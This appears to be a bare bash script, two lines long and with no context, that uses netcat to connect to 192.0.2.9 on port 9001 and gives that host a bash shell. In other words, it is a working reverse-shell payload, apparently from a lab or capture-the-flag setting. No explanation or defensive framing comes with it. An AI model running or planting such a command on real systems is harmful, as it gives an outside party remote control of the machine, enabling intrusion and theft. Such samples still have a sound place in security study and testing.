#!/bin/bash
/bin/nc.traditional 192.0.2.9 9001 -c bash
